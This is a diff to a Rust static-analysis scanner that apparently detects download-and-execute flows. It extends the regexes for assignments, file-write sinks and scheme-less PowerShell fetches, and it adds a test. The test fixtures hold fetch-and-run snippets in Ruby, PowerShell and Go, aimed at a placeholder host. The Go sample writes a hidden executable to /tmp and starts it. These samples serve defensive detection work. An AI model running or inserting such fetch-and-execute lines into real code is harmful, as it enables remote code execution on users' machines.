@@ -63,17 +63,23 @@ static SEND: LazyLock<Regex> = LazyLock::new(|| {
 /// An assignment; the name is the first group.
 static ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
     regex(
-        r"^\s*(?:(?:while|until|if|for|foreach)\s*\(?\s*)?(?:(?:my|our|local|var|let|mut|const|auto|final|set|static|String|string|byte\[\])\s+)*(?:mut\s+)?([$@%]?[A-Za-z_][A-Za-z0-9_.]*)(?:\s*,\s*[$@%]?[A-Za-z_][A-Za-z0-9_]*)*(?:\s*:\s*[A-Za-z<>\[\], ]+)?\s*(?::=|\.=|\+=|=)\s*[^=~>]",
+        r"^\s*(?:(?:while|until|if|for|foreach)\s*\(?\s*)?(?:(?:my|our|local|var|let|mut|const|auto|final|set|static|String|string|byte\[\]|[A-Z][A-Za-z0-9_<>\[\]]*)\s+)*(?:mut\s+)?([$@%]?[A-Za-z_][A-Za-z0-9_.]*)(?:\s*,\s*[$@%]?[A-Za-z_][A-Za-z0-9_]*)*(?:\s*:\s*[A-Za-z<>\[\], ]+)?\s*(?::=|\.=|\+=|=)\s*[^=~>]",
     )
 });
 /// A file that something is downloaded to; its name is the group.
 static SAVED: LazyLock<Regex> = LazyLock::new(|| {
     regex(
-        r#"(?i)(?:-OutFile|-o|-Destination)\s+["']?([^\s"';|]{3,200})|DownloadFile\([^,]{3,300},\s*["']?([^"')]{3,200})|file_put_contents\(\s*["']?([^"',]{3,200})"#,
+        r#"(?i)(?:-OutFile|-o|-Destination)\s+["']?([^\s"';|]{3,200})|DownloadFile\([^,]{3,300},\s*["']?([^"')]{3,200})|file_put_contents\(\s*["']?([^"',]{3,200})|\b(?:os|ioutil)\.(?:WriteFile|Create|OpenFile)\(\s*["`]([^"`]{3,200})|\b(?:File|IO)\.(?:bin)?write\(\s*["']([^"']{3,200})|Files\.(?:write|copy)\([^"]{0,80}"([^"]{3,200})|\bfs::write\(\s*"([^"]{3,200})"#,
     )
 });
 static NAME: LazyLock<Regex> = LazyLock::new(|| regex(r"[$@%]?[A-Za-z_][A-Za-z0-9_]*"));
 static URL: LazyLock<Regex> = LazyLock::new(|| regex(r#"https?://[^\s"'`)>,;]{3,300}"#));
+/// An address without a scheme, which PowerShell takes.
+static BARE_HOST: LazyLock<Regex> = LazyLock::new(|| {
+    regex(
+        r#"(?i)\b(?:irm|iwr|Invoke-RestMethod|Invoke-WebRequest)\s+(?:-\w+\s+)*["']?([a-z0-9-]+(?:\.[a-z0-9-]+)+(?:/[^\s"'|)]*)?)"#,
+    )
+});
 static TEXT: LazyLock<Regex> = LazyLock::new(|| regex(r#""([^"\n]{3,300})"|'([^'\n]{3,300})'"#));
 
 /// What is followed of a value.
@@ -142,7 +148,8 @@ fn flow_of(line: &str, variables: &HashMap<String, Flow>, files: &HashMap<String
             flow.secret.get_or_insert_with(|| file.to_owned());
         }
     }
-    let url = URL.find(line).map(|url| url.as_str().to_owned());
+    let bare = || BARE_HOST.captures(line).and_then(|found| found.get(1));
+    let url = URL.find(line).or_else(bare).map(|url| url.as_str().to_owned());
     if FETCH.is_match(line) && !SEND.is_match(line) {
         flow.labels.add(Labels::NETWORK);
         flow.url.clone_from(&url);
@@ -220,7 +227,7 @@ fn note(
     }
     if flow.labels.has(Labels::NETWORK)
         && let Some(found) = SAVED.captures(line)
-        && let Some(file) = (1..=3).find_map(|group| found.get(group))
+        && let Some(file) = (1..found.len()).find_map(|group| found.get(group))
     {
         let name = file.as_str().trim_matches(['"', '\'', ')']);
         if name.len() > 2 && files.len() < MAX_VARIABLES {
@@ -233,7 +240,7 @@ fn note(
     for name in NAME.find_iter(&line[names.start..end]) {
         let name = name.as_str();
         let is_word =
-            name.len() > 1 && !matches!(name, "err" | "_" | "String" | "string" | "my" | "let");
+            !name.is_empty() && !matches!(name, "err" | "_" | "String" | "string" | "my" | "let");
         if is_word && variables.len() < MAX_VARIABLES {
             variables.entry(name.to_owned()).or_default().add(flow);
         }
@@ -264,6 +271,7 @@ mod tests {
         for text in [
             "code = URI.open('https://a.example/x').read\neval(code)\n",
             "$c = irm https://a.example/x\niex $c\n",
+            "r, _ := http.Get(\"https://a.example/b\")\nb, _ := io.ReadAll(r.Body)\nos.WriteFile(\"/tmp/.b\", b, 0755)\nexec.Command(\"/tmp/.b\").Start()\n",
         ] {
             assert!(matches!(kinds(text)[..], [FactKind::DownloadExec { .. }]), "{text}");
         }
